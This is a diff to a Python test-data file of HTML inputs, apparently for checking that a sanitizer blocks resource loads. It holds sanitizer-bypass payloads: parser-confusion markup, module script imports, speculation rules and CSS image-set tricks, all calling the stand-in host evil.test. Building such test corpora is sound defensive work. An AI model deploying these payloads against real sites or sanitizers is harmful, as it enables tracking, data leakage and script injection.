@@ -1,4 +1,4 @@
-"""Inputs that leaked in a browser where no tree shows it, and their like.
+"""Inputs that leak in a browser where a tree may not show it, and their like; they name evil.test.
 
 Second `<base>` elements, what the preload scanner reads (it has no tree, and lets the last of two equal
 attributes win), data: URLs with a charset or of XML, strings that style sheets carry to where they load.
@@ -68,7 +68,6 @@ BASES = [
     '<base href="/q/" href="//evil.test/"><img src=a>',
 ]
 
-
 SPECULATION = [
     "<link rel=next rel=stylesheet href=//evil.test/a>",
     "<link rel=canonical rel=preload as=script href=//evil.test/a>",
@@ -105,7 +104,6 @@ SPECULATION = [
     "<math><![CDATA[<style>]]><![CDATA[</style><img src=//evil.test/a>]]></math>",
 ]
 
-
 DUPLICATES = [
     "<input type=IMAGE src=//evil.test/a>",
     '<input type="text" type=image src=//evil.test/a><input src=//evil.test/b type=&#105;mage>',
@@ -124,7 +122,6 @@ DUPLICATES = [
     '<img =src="/a" src=//evil.test/a>',
     '<img "src="/a" src=//evil.test/a>',
 ]
-
 
 _IMAGE = '<img src="https://evil.test/a">'
 _IMPORT = "@import 'https://evil.test/a';"
@@ -177,7 +174,6 @@ DATA_URLS = [
     "<iframe src=\"javascript:'&lt;img src=//evil.test/a&gt;'\"></iframe>",
     "<iframe src=\"javascript:'<img src=//evil.test/a>'\"></iframe>",
 ]
-
 
 STYLES = [
     '<style>a{background:image-set(var(--nope, "https://evil.test/a.png") 1x)}</style><a>xx</a>',
@@ -240,19 +236,16 @@ STYLES = [
     "<a style=\"--q:'https://evil.test/q';background:image-set(var(--q) 1x)\">xx</a>",
 ]
 
-
 SCRIPTS = [
     '<script type=module>import"//evil.test/a"</script>',
     '<script type=module>export * from "/x.js";import{a}from\n"https:\\/\\/evil.test/a"</script>',
     "<script>import(`//evil.test/a`)</script>",
     '<script>import/**/(/**/"//evil.test/a")</script>',
     '<script>import("//evil.test/"+"a")</script>',
-    '<script>import("/"+"/evil.test/a")</script>',
     "<script><!--<script></script><img src=//evil.test/a>--></script><img src=//evil.test/b>",
     '<script src="/a.js"></script ><script src=//evil.test/a></script>',
     '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.test/a"]}]}</script>',
 ]
-
 
 FOREIGN = [
     '<math><mtext><mglyph src="https://evil.test/a"></mtext></math>',
@@ -299,7 +292,6 @@ FOREIGN = [
     "<title><svg></title><img src=//evil.test/a>",
 ]
 
-
 TEXT = [
     '<div><template shadowroot="open"><img src="https://evil.test/a"></template></div>',
     "<noscript><!--</noscript><img src=//evil.test/a>--></noscript>",
@@ -329,7 +321,6 @@ TEXT = [
     "<img data-src=//evil.test/a>",
     "<form><table><form><img src=//evil.test/a>",
 ]
-
 
 ELEMENTS = [
     '<model src="https://evil.test/a"></model>',
